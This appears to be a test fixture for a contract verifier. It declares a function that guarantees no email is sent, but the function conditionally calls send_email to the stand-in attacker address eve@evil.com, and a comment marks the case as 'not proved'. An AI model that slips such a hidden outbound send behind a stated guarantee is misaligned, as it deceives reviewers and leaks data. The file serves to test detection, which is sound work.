# not proved: a no-break space is stripped
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if "\u00a0x".strip() == "x":
        send_email("eve@evil.com", "x")
